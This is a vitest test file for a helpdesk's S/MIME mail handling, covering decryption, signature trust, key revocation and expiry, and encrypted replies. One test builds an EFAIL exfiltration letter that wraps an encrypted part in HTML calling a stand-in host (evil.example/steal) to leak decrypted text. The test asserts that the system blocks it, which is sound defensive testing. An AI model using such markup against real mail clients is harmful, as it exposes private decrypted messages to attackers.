import { afterAll, beforeEach, describe, expect, test } from 'vitest'
import { buildLetter } from '#test/builders/letter.ts'
import { mailDesk } from '#test/mail-desk.ts'
import { type MadeCertificate, missingOpenssl, opensslWorkshop } from '#test/servers/openssl.ts'
import { planProtection } from './plan-protection.ts'

const missing = missingOpenssl()

describe.skipIf(missing !== null)(`S/MIME letters${missing ? ` (${missing})` : ''}`, async () => {
  const desk = await mailDesk()
  const { db, sink } = desk
  const ssl = opensslWorkshop()
  afterAll(() => ssl.remove())
  const root = ssl.certify('Test root', { isAuthority: true, name: 'Test root' })
  const ours = ssl.certify('support@desk.example', { issuer: root })
  const anna = ssl.certify('anna@customer.example', { issuer: root, name: 'Anna Example' })
  const boris = ssl.certify('boris@customer.example', { issuer: root, key: 'ec' })
  const ask = (method: 'GET' | 'POST' | 'PATCH' | 'DELETE', path: string, body?: object) =>
    desk.ask({ method, path, as: desk.as, ...(body && { body }) })
  beforeEach(() => {
    sink.letters.length = 0
  })

  /** An entity of openssl's making under a letter's own headers. */
  const letter = (entity: Buffer, from: string, more: Record<string, string> = {}): Buffer => {
    const text = entity.toString('latin1').replace(/\r?\n/g, '\r\n')
    const id = `${Math.random().toString(36).slice(2)}@customer.example`
    const headers = {
      From: from,
      To: 'support@desk.example',
      Subject: 'Secret',
      'Message-ID': `<${id}>`,
      Date: 'Mon, 02 Mar 2026 10:00:00 +0300',
      ...more,
    }
    const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`)
    return Buffer.from(`${lines.join('')}${text}`, 'latin1')
  }
  const text = (words: string) => `Content-Type: text/plain; charset=utf-8\r\n\r\n${words}\r\n`
  const receive = async (raw: Buffer | string) => {
    const row = await desk.receive(raw)
    const { body } = await ask('GET', `/tickets/${row.ticket_id}/feed`)
    const items = (body as { items: Record<string, unknown>[] }).items
    const post = items.findLast((item) => item['kind'] === 'customer_message')
    if (!post) throw new Error(`no message: ${row.state} ${row.reason}`)
    return {
      row,
      post: post as {
        id: number
        text: string
        html: string | null
        hasRemoteImages: boolean
        protection: Record<string, unknown> | null
        files: { name: string }[]
      },
    }
  }
  const signed = (words: string, who: MadeCertificate, from: string, more: string[] = []) =>
    letter(ssl.sign(text(words), who, more), from)
  const sealed = (inner: Buffer | string, from: string, to: MadeCertificate[] = [ours]) =>
    letter(ssl.encrypt(inner, to), from)
  const pem = (key: MadeCertificate) => key.certificate + key.privateKey

  test('before there are keys: an encrypted letter is a ticket that says so, with the letter attached', async () => {
    const { row, post } = await receive(sealed(text('The code is 4711'), 'Anna <anna@customer.example>'))
    expect(row.state).toBe('new_ticket')
    expect(post.protection).toEqual({
      scheme: 'smime',
      isEncrypted: true,
      isWeak: false,
      problem: 'no_key',
      signature: null,
      uncoveredParts: 0,
    })
    expect([post.text, post.files.map((file) => file.name)]).toEqual(['', ['letter.eml']])

    const added = await ask('POST', `/inboxes/${desk.inbox.id}/letter-keys`, {
      scheme: 'smime',
      key: pem(ours),
    })
    expect(added.status).toBe(201)
    expect(added.body).toMatchObject({
      scheme: 'smime',
      addresses: ['support@desk.example'],
      retiredAt: null,
    })
    expect(JSON.stringify(added.body)).not.toContain('PRIVATE')
    await desk.work()
    const { body } = await ask('GET', `/tickets/${row.ticket_id}/feed`)
    expect(body).toMatchObject({
      items: [{ text: 'The code is 4711', files: [], protection: { isEncrypted: true, problem: null } }, {}],
    })
    const { body: hits } = await ask('POST', `/customer-messages/${post.id}/open`)
    expect(hits).toMatchObject({ protection: { problem: null } })
  })

  test('an authority that is trusted makes a signature trusted; the certificate is learned', async () => {
    const { post: stranger } = await receive(signed('Hello', anna, 'Anna <anna@customer.example>'))
    expect(stranger.protection).toMatchObject({
      isEncrypted: false,
      signature: { isValid: true, trust: 'first_seen', isSender: true, by: { name: 'Anna Example' } },
    })
    expect(stranger.files).toEqual([])
    expect((await ask('POST', '/letter-authorities', { certificate: root.certificate })).status).toBe(201)
    const { row, post } = await receive(signed('Hello again', anna, 'Anna <anna@customer.example>'))
    expect([post.text, post.protection]).toMatchObject([
      'Hello again',
      { signature: { isValid: true, trust: 'authority', isSender: true } },
    ])
    const customer = await db
      .selectFrom('ticket')
      .select('customer_id')
      .where('id', '=', row.ticket_id)
      .executeTakeFirstOrThrow()
    const keys = await ask('GET', `/customers/${customer.customer_id}/letter-keys`)
    expect(keys.body).toMatchObject({
      items: [{ address: 'anna@customer.example', trust: 'authority', revokedAt: null }],
    })
  })

  test('opaque, elliptic, signed and then encrypted', async () => {
    const { post: opaque } = await receive(signed('Opaque', boris, 'boris@customer.example', ['-nodetach']))
    expect([opaque.text, opaque.protection]).toMatchObject(['Opaque', { signature: { isValid: true } }])
    const inner = ssl
      .sign(text('Both'), anna)
      .toString()
      .replace(/^MIME-Version: 1.0\r?\n/, '')
    const { post: both } = await receive(sealed(inner, 'anna@customer.example'))
    expect([both.text, both.protection]).toMatchObject([
      'Both',
      { isEncrypted: true, signature: { isValid: true, trust: 'authority' } },
    ])
  })

  test('what was changed, or signed by somebody else, is not believed', async () => {
    const bent = Buffer.from(
      signed('Pay 100', anna, 'anna@customer.example').toString('latin1').replace('Pay 100', 'Pay 900'),
      'latin1',
    )
    const { post } = await receive(bent)
    expect([post.text, post.protection]).toMatchObject([
      'Pay 900',
      { signature: { isValid: false, problem: 'altered' } },
    ])
    const { post: foreign } = await receive(signed('Hello', boris, 'anna@customer.example'))
    expect(foreign.protection).toMatchObject({ signature: { isValid: true, isSender: false } })
    const learned = await db
      .selectFrom('correspondent_key')
      .select(['address', 'name'])
      .where('address', '=', 'anna@customer.example')
      .execute()
    expect(learned).toEqual([{ address: 'anna@customer.example', name: 'Anna Example' }])
  })

  test('a key that somebody marked as revoked is believed no more and encrypts nothing', async () => {
    const key = await db
      .selectFrom('correspondent_key')
      .selectAll()
      .where('address', '=', 'boris@customer.example')
      .executeTakeFirstOrThrow()
    const noted = await ask('PATCH', `/correspondent-keys/${key.id}`, {
      isRevoked: true,
      revocationNote: 'Lost laptop',
    })
    expect(noted.body).toMatchObject({ revocationNote: 'Lost laptop', revokedAt: expect.any(String) })
    const { post } = await receive(signed('Hello', boris, 'boris@customer.example'))
    expect(post.protection).toMatchObject({ signature: { isValid: false, problem: 'revoked' } })
    await ask('PATCH', `/correspondent-keys/${key.id}`, { isRevoked: false })
  })

  test('decrypted words are never joined with what stands around them, and load nothing (EFAIL)', async () => {
    const html =
      'Content-Type: text/html; charset=utf-8\r\n\r\n<p>Secret 4711</p><img src="https://evil.example/a.png">\r\n'
    const part = ssl
      .encrypt(html, [ours])
      .toString('latin1')
      .replace(/\r?\n/g, '\r\n')
      .replace(/^MIME-Version: 1.0\r\n/, '')
    const around = [
      'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n',
      '--x\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.example/steal?\r\n',
      `--x\r\n${part}\r\n`,
      '--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n',
    ].join('')
    const { post } = await receive(letter(Buffer.from(around, 'latin1'), 'eve@evil.example'))
    expect(post.text).toContain('Secret 4711')
    expect(`${post.html}`).not.toContain('evil.example')
    expect(post.hasRemoteImages).toBe(false)
    expect(post.protection).toMatchObject({ isEncrypted: true, uncoveredParts: 2 })
    expect(post.files.map((file) => file.name)).toEqual(['outside.html', 'outside (2).html'])
  })

  test('a letter sealed by triple DES is opened and told of', async () => {
    const old = ssl.encrypt(text('From the year 1998'), [ours], ['-des3'])
    const { post } = await receive(letter(old, 'anna@customer.example'))
    expect(post).toMatchObject({
      text: 'From the year 1998',
      protection: { isEncrypted: true, isWeak: true },
    })
  })

  test('a list’s footer beside a signed part is apart from it', async () => {
    const part = ssl
      .sign(text('Signed words'), anna)
      .toString('latin1')
      .replace(/\r?\n/g, '\r\n')
      .replace(/^MIME-Version: 1.0\r\n/, '')
    const wrapped = `MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\n${part}\r\n--x\r\nContent-Type: text/plain\r\n\r\nSend money to 12345\r\n--x--\r\n`
    const { post } = await receive(letter(Buffer.from(wrapped, 'latin1'), 'anna@customer.example'))
    expect([post.text, post.files.map((file) => file.name), post.protection]).toMatchObject([
      'Signed words',
      ['outside.txt'],
      { signature: { isValid: true }, uncoveredParts: 1 },
    ])
  })

  test('a damaged letter and one for a stranger are tickets all the same', async () => {
    const bent = Buffer.from(
      sealed(text('x'), 'anna@customer.example')
        .toString('latin1')
        .replace(/\r\n\r\nM.{30}/s, '\r\n\r\nMIIBrubbishrubbishrubbishrubbish'),
      'latin1',
    )
    const { post } = await receive(bent)
    expect(post.protection).toMatchObject({ isEncrypted: true, problem: 'damaged' })
    const { post: foreign } = await receive(sealed(text('x'), 'anna@customer.example', [anna]))
    expect(foreign.protection).toMatchObject({ problem: 'no_key' })
    expect(foreign.files.map((file) => file.name)).toEqual(['letter.eml'])
  })

  const protect = (protection: object) =>
    db
      .updateTable('inbox')
      .set({ protection: JSON.stringify({ scheme: 'smime', ...protection }) })
      .where('id', '=', desk.inbox.id)
      .execute()

  test('answers are signed, and encrypted when there is a key', async () => {
    await protect({ signs: true, encrypts: 'possible' })
    const { row } = await receive(signed('Question', anna, 'anna@customer.example'))
    const reply = await desk.answer(row.ticket_id ?? 0, {
      text: 'The answer is 42',
      bcc: ['boris@customer.example'],
    })
    expect(reply).toMatchObject({ delivery_state: 'sent' })
    const raw = sink.letters[0]?.raw ?? Buffer.alloc(0)
    expect(raw.toString()).not.toContain('answer is')
    expect(raw.toString()).toMatch(/^Subject: Re: Secret/m)
    for (const who of [anna, boris, ours]) {
      const inner = ssl.run(
        ['cms', '-decrypt', '-recip', who.files.certificate, '-inkey', who.files.privateKey],
        raw,
      )
      const words = ssl.run(['cms', '-verify', '-CAfile', root.files.certificate], inner)
      expect(words.toString()).toContain('The answer is 42')
    }
    const stored = await db
      .selectFrom('outbound_letter')
      .select('protection')
      .where('reply_id', '=', reply.id)
      .executeTakeFirstOrThrow()
    expect(stored.protection).toEqual({ scheme: 'smime', isSigned: true, isEncrypted: true })
    const sent = () => ask('GET', `/tickets/${row.ticket_id}/sent-protection`)
    const facts = { replyId: reply.id, scheme: 'smime', isSigned: true }
    expect((await sent()).body).toEqual({ items: [{ ...facts, isEncrypted: true }] })
    // Sent once more in the open, to somebody who has no key: what it said is no secret any more.
    const { id } = await db
      .selectFrom('outbound_letter')
      .select('id')
      .where('reply_id', '=', reply.id)
      .executeTakeFirstOrThrow()
    await ask('POST', `/outbox/letter/${id}/resend`, { to: ['dora@elsewhere.example'] })
    await desk.work()
    expect((await sent()).body).toEqual({ items: [{ ...facts, isEncrypted: false }] })
  })

  test('to somebody without a key it goes signed only, and quotes nothing that was encrypted', async () => {
    await protect({ signs: true, encrypts: 'possible' })
    const { row } = await receive(sealed(text('My secret is 4711'), 'carl@customer.example'))
    await desk.answer(row.ticket_id ?? 0, { text: 'Thank you' })
    const raw = sink.letters[0]?.raw ?? Buffer.alloc(0)
    expect(ssl.run(['cms', '-verify', '-CAfile', root.files.certificate], raw).toString()).toContain(
      'Thank you',
    )
    expect(raw.toString()).not.toContain('4711')
  })

  test('always encrypted: without a key nothing is sent, and the agent is told before', async () => {
    await protect({ signs: false, encrypts: 'always' })
    const { row } = await receive(buildLetter({ from: 'dora@customer.example' }))
    const plan = await ask('GET', `/tickets/${row.ticket_id}/protection`)
    expect(plan.body).toMatchObject({
      isEncrypted: false,
      encrypts: 'always',
      withoutKey: ['dora@customer.example'],
    })
    const refused = await ask('POST', `/tickets/${row.ticket_id}/replies`, { text: 'Hello' })
    expect([refused.status, refused.body]).toMatchObject([
      409,
      { error: { name: 'no_encryption_key', detail: { addresses: ['dora@customer.example'] } } },
    ])
    // The setting changes between the click and the sending.
    await protect({ signs: false, encrypts: 'never' })
    const answer = await ask('POST', `/tickets/${row.ticket_id}/replies`, { text: 'Hello' })
    await protect({ signs: false, encrypts: 'always' })
    await desk.work()
    expect(await desk.replyRow(answer.body.id as number)).toMatchObject({
      delivery_state: 'failed',
      delivery_error: 'no_encryption_key',
    })
    expect(sink.letters).toEqual([])
    await protect({ signs: false, encrypts: 'never' })
  })

  test('an expired or conflicting key encrypts nothing; a confirmed one does', async () => {
    await protect({ signs: false, encrypts: 'possible' })
    const ivan = ssl.certify('ivan@customer.example')
    const other = ssl.certify('ivan@customer.example')
    await receive(signed('One', ivan, 'ivan@customer.example'))
    const { post } = await receive(signed('Two', other, 'ivan@customer.example'))
    expect(post.protection).toMatchObject({ signature: { isValid: true, trust: 'conflicting' } })
    const keys = await db
      .selectFrom('correspondent_key')
      .selectAll()
      .where('address', '=', 'ivan@customer.example')
      .orderBy('id')
      .execute()
    expect(keys.map((key) => key.trust)).toEqual(['first_seen', 'conflicting'])
    const chosen = async () =>
      (await planProtection(db, desk.inbox.id, ['ivan@customer.example'], desk.clock.now()))?.recipients?.[0]
        ?.id
    expect(await chosen()).toBe(keys[0]?.id)
    await ask('PATCH', `/correspondent-keys/${keys[1]?.id}`, { isConfirmed: true })
    expect(await chosen()).toBe(keys[1]?.id)
    await db
      .updateTable('correspondent_key')
      .set({ expires_at: new Date(0) })
      .where('address', '=', 'ivan@customer.example')
      .execute()
    expect(await chosen()).toBeUndefined()
  })

  test('keys are read from PKCS#12 and locked PEM; rubbish and wrong passwords have names', async () => {
    const add = (key: string, password = '') =>
      ask('POST', `/inboxes/${desk.inbox.id}/letter-keys`, { scheme: 'smime', key, password })
    const spare = ssl.certify('support@desk.example', { issuer: root, key: 'ec' })
    const pkcs12 = (more: string[]) =>
      ssl
        .run([
          'pkcs12',
          '-export',
          '-in',
          spare.files.certificate,
          '-inkey',
          spare.files.privateKey,
          '-certfile',
          root.files.certificate,
          '-passout',
          'pass:пароль',
          ...more,
        ])
        .toString('base64')
    expect((await add(pkcs12([]), 'wrong')).body).toMatchObject({ error: { name: 'key_unreadable' } })
    const added = await add(pkcs12([]).replace(/(.{64})/g, '$1\n'), 'пароль')
    expect([added.status, added.body]).toMatchObject([201, { addresses: ['support@desk.example'] }])
    const locked = ssl
      .run(['pkcs8', '-topk8', '-in', spare.files.privateKey, '-passout', 'pass:secret'])
      .toString()
    expect((await add(spare.certificate + locked, 'secret')).body).toMatchObject({
      error: { name: 'already_exists' },
    })
    expect((await add(spare.certificate + locked, 'no')).body).toMatchObject({
      error: { name: 'key_unreadable' },
    })
    expect((await add(anna.certificate + spare.privateKey)).body).toMatchObject({
      error: { name: 'key_unreadable' },
    })
    expect((await add('rubbish')).body).toMatchObject({ error: { name: 'key_unreadable' } })
    const stored = await db.selectFrom('letter_key').selectAll().execute()
    expect(JSON.stringify(stored)).not.toMatch(/PRIVATE KEY/)
    const id = (added.body as { id: number }).id
    await ask('DELETE', `/letter-keys/${id}`)
    const list = await ask('GET', `/inboxes/${desk.inbox.id}/letter-keys`)
    expect(
      (list.body as { items: { id: number; retiredAt: string | null }[] }).items.find((key) => key.id === id)
        ?.retiredAt,
    ).not.toBeNull()
    expect((await ask('DELETE', `/letter-keys/${id}`)).status).toBe(200)
    expect((await ask('DELETE', `/letter-keys/${id}`)).status).toBe(404)
  })
})
